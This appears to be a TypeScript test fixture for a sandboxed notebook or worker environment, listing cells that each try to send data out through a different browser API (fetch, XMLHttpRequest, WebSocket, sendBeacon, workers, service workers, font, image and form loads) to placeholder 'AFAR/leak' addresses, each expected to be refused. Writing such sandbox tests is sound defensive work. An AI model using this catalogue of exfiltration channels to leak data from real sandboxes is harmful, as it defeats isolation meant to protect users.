/**
 * Cells that try to send something out, by every API that a worker may have.
 * Source: the platform's list of ways to make a request.
 * Leaves out markup that loads (markup.ts).
 */
import { hostile, type Hostile } from './hostile.ts';

const refused = /.*(?:Error|refused|undefined)/s;

export const network: readonly Hostile[] = [
  hostile('fetches from another origin', 'await fetch("AFAR/leak");', /.*TypeError/s, { harm: 'request' }),
  hostile('fetches from its own origin', 'await fetch("HERE/leak");', /.*TypeError/s),
  hostile('fetches without cors', 'await fetch("AFAR/leak", { mode: "no-cors", method: "POST", body: "b" });', /.*TypeError/s, { harm: 'request' }),
  hostile('fetches with keepalive', 'await fetch("AFAR/leak", { keepalive: true, mode: "no-cors" });', /.*TypeError/s, { harm: 'request' }),
  hostile('asks by XMLHttpRequest', 'const asked = new XMLHttpRequest(); asked.open("GET", "AFAR/leak", false); asked.send();', /.*NetworkError/s, { harm: 'request' }),
  hostile('opens a WebSocket', 'const w = new WebSocket("SOCKET/leak"); await new Promise((ok) => { w.onerror = ok; }); display("refused");', refused, { harm: 'request' }),
  hostile('opens an EventSource', 'const e = new EventSource("AFAR/leak"); await new Promise((ok) => { e.onerror = ok; }); display("refused");', refused, { harm: 'request' }),
  hostile('sends a beacon', 'navigator.sendBeacon("AFAR/leak", "b"); await new Promise((go) => setTimeout(go, 300));', refused, { harm: 'request' }),
  hostile('connects by WebRTC', 'const c = new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }); await c.createOffer();', /.*TypeError/s),
  hostile('connects by WebTransport', 'const t = new (globalThis as any).WebTransport("https://127.0.0.1:9/leak"); await t.ready;', refused),
  hostile('imports a script', 'importScripts("AFAR/leak.js");', refused),
  hostile('imports a module', 'await import("AFAR/leak.js");', /.*TypeError/s, { harm: 'request' }),
  hostile('imports a module at its top', 'const m = await import(`${"AFAR"}/leak.js?${1}`); m;', /.*TypeError/s, { harm: 'request' }),
  hostile('imports data as a module', 'await import("data:text/javascript,export default 1");', /.*TypeError/s),
  hostile('starts a worker from another origin', 'new Worker("AFAR/leak.js");', refused),
  hostile('starts a worker that fetches', 'const u = URL.createObjectURL(new Blob([`fetch("AFAR/leak").then(() => postMessage("got"), () => postMessage("refused"))`])); const w = new Worker(u); display(await new Promise((ok) => { w.onmessage = ({ data }) => ok(data); w.onerror = () => ok("refused"); }));', refused, { harm: 'request' }),
  hostile('starts a worker that starts a worker', 'const inner = `fetch("AFAR/leak").catch(() => 0).then(() => postMessage("refused"))`; const outer = `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}]))); w.onmessage = (e) => postMessage(e.data); w.onerror = () => postMessage("refused")`; const w = new Worker(URL.createObjectURL(new Blob([outer]))); display(await new Promise((ok) => { w.onmessage = ({ data }) => ok(data); w.onerror = () => ok("refused"); }));', refused, { harm: 'request' }),
  hostile('starts a shared worker', 'new (globalThis as any).SharedWorker("AFAR/leak.js");', refused),
  hostile('registers a service worker', 'await (navigator as any).serviceWorker.register("HERE/leak.js");', refused),
  hostile('loads a font', 'const f = new (globalThis as any).FontFace("leak", "url(AFAR/leak.woff2)"); await f.load();', refused, { harm: 'request' }),
  hostile('loads an image', 'const i = new (globalThis as any).Image(); i.src = "AFAR/leak.png"; await new Promise((ok) => { i.onload = i.onerror = ok; });', /.*TypeError/s, { harm: 'request' }),
  hostile('prefetches by a link', 'const l = (globalThis as any).document.createElement("link"); l.rel = "stylesheet"; l.href = "AFAR/leak.css"; (globalThis as any).document.head.append(l); await new Promise((go) => setTimeout(go, 300));', /.*TypeError/s, { harm: 'request' }),
  hostile('sends a form', 'const f = (globalThis as any).document.createElement("form"); f.action = "AFAR/leak"; (globalThis as any).document.body.append(f); f.submit(); await new Promise((go) => setTimeout(go, 300));', /.*TypeError/s, { harm: 'request' }),
]; // prettier-ignore
